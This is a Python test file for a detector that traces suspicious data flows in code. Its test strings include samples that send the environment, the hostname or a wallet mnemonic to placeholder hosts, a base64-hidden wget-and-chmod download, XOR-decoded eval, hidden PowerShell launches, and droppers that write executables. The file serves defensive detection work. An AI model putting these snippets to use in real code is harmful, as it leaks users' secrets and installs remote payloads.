"""Data-flow facts: what must not leave the machine reaching a sender, decoding helpers,
command lines given as argv lists, droppers and disguised imports."""

from __future__ import annotations

from finalexam.analyze.pyfacts import python_facts


def calls(source: str) -> set[str]:
    return {f.value for f in python_facts(source).facts if f.kind == "call"}


def strings(source: str) -> set[str]:
    return {f.value for f in python_facts(source).facts if f.kind == "string"}


def test_whole_environment_reaching_a_sender_is_recorded() -> None:
    loop = (
        "from os import environ\nimport requests\ndef f():\n    m = ''\n"
        "    for _, v in environ.items():\n        m += v\n"
        "    requests.get('https://x.example.invalid/' + m)\n"
    )
    assert "network<-os.environ" in calls(loop)
    nested = "import os, json, urllib.request as r\nd = json.dumps({'e': dict(os.environ)})\n"
    nested += "r.urlopen(r.Request('https://x.example.invalid', data=d.encode()))\n"
    assert "network<-os.environ" in calls(nested)
    # one setting read by name is configuration, not the environment
    single = "import os, requests\nrequests.get(u, headers={'A': os.environ.get('TOKEN')})\n"
    single += "requests.post(u, json={'k': os.environ['KEY'], 'v': os.getenv(name)})\n"
    assert "network<-os.environ" not in calls(single)


def test_identity_and_key_material_reaching_a_sender() -> None:
    recon = "import socket, urllib.request\np = socket.getfqdn()\n"
    recon += "urllib.request.urlopen('https://x.example.invalid/?' + p)\n"
    assert "network<-recon" in calls(recon)
    secret = "import httpx\nasync def f(mnem):\n    async with httpx.AsyncClient() as c:\n"
    secret += "        await c.post(URL, files={'f': (mnem, b'')})\n"
    assert "network<-secret" in calls(secret)
    assert "network<-secret" not in calls("import requests\nrequests.post(URL, json=signed_tx)")


def test_decoding_helpers_and_xor_loops_are_decoders() -> None:
    helper = "import base64, subprocess\ndef d(s):\n    return base64.b64decode(s).decode()\n"
    helper += (
        "subprocess.run(d('d2dldCAtcU8gL3RtcC94IGh0dHA6Ly9hLmV4YW1wbGUvYyAmJiBjaG1vZCAreCAv'))\n"
    )
    found = strings(helper)
    assert any(s.startswith("wget -qO /tmp/x http://a.example/c && chmod +x") for s in found)
    assert "subprocess.run<-base64.b64decode" in calls(helper)
    xor = "k = '42'\nx = ''\nfor i, c in enumerate(blob):\n    x += chr(ord(c) ^ ord(k[i % 2]))\n"
    xor += "eval(compile(x, '<s>', 'exec'))\n"
    assert {"eval<-xor", "compile<-xor"} <= calls(xor)
    method = "class P:\n    def decode(self, e):\n        return bytes(b ^ 7 for b in e)\n"
    method += "    def run(self):\n        exec(self.decode(self.code))\n"
    assert "exec<-xor" in calls(method)
    # an encoder is not a decoder
    encoder = "import base64, subprocess\ndef auth(u):\n    return base64.b64encode(u).decode()\n"
    encoder += "subprocess.run(['curl', '-H', auth(u)])\n"
    assert not any("<-" in c for c in calls(encoder))


def test_hidden_urls_argv_commands_and_eval_aliases() -> None:
    assert "decoded-url" in calls("A = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ=='\n")
    assert "https://example.invalid/a" in strings("A = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ=='\n")
    argv = "import subprocess\nsubprocess.Popen(['powershell.exe', '-WindowStyle', 'Hidden', c])\n"
    assert "powershell.exe -WindowStyle Hidden {}" in strings(argv)
    pip = "import subprocess\nsubprocess.run(['pip', 'install', f'git+{u}'])\n"
    assert "spawn:pip-install" in calls(pip)
    inline = "import subprocess\nsubprocess.Popen(['python3', '-c', 'import x'])\n"
    assert "spawn:python-inline" in calls(inline)
    aliased = "_e = eval('eval')\n_e(source)\nrun, s = exec, str\nrun(payload)\n"
    assert {"eval", "exec"} <= calls(aliased)
    dynamic = "rq = __import__('requests')\ng = getattr(rq, ''.join(['g', 'e', 't']))\n"
    assert "requests.get" in calls(dynamic)


def test_droppers_and_disguised_archives() -> None:
    dropper = "import requests\nr = requests.get(u)\nopen('C:/Temp/a.exe', 'wb').write(r.content)\n"
    assert "drop-executable<-download" in calls(dropper)
    retrieve = "import os, urllib.request\np = os.path.join(d, 'helper.exe')\n"
    retrieve += "urllib.request.urlretrieve(u, p)\n"
    assert "drop-executable<-download" in calls(retrieve)
    decoded = "import base64\ndef save(name='c.py'):\n    with open(name, 'w') as f:\n"
    decoded += "        f.write(base64.b64decode(DATA).decode())\n"
    assert "drop-executable<-decoded" in calls(decoded)
    data = "import requests\nwith open('data.json', 'wb') as f:\n"
    data += "    f.write(requests.get(u).content)\n"
    assert not any(c.startswith("drop-") for c in calls(data))
    disguised = (
        "import os, zipimport\nz = zipimport.zipimporter(f'{os.path.dirname(__file__)}/a.crt')\n"
    )
    assert "zipimport<-disguised-file" in calls(disguised)
    assert "zipimport<-disguised-file" not in calls(
        "import zipimport\nzipimport.zipimporter('x.zip')"
    )
